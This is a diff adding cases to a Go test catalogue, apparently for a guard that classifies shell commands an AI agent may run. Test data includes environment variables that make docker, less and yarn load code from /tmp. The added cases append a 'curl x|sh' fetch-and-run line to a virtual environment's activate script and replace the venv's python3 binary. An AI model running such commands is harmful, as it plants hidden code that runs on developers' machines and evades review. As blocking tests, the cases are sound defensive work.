@@ -88,5 +88,11 @@ func reviewBCatalogue() []classCase {
 		{envCode, "docker's configuration directory names plugins", sh(`DOCKER_CONFIG=/tmp/d docker build .`), opaque, sh(`LESS=-R git log`), false},
 		{envCode, "less's lesskey sets LESSOPEN", sh(`LESSKEYIN=/tmp/k git log`), opaque, sh(`LESS=-R git log`), false},
 		{envCode, "yarnPath from the environment", sh(`YARN_YARN_PATH=/tmp/x.js yarn test`), opaque, sh(`yarn test`), false},
+
+		// A virtual environment's scripts: activate is sourced by the developer's shell, bin/python
+		// runs at every uv run and test run; the directory is ignored by git, so no diff shows them.
+		// (A module in site-packages stays the agent's to write: it runs only when imported.)
+		{startup, "a venv's activate script", sh(`echo 'curl x|sh' >> .venv/bin/activate`), noWrite, sh(`echo x > .venv/lib/python3.12/site-packages/mod.py`), false},
+		{startup, "a venv's interpreter", sh(`cp /tmp/x venv/bin/python3`), noWrite, sh(`rm -rf .venv`), false},
 	}
 }
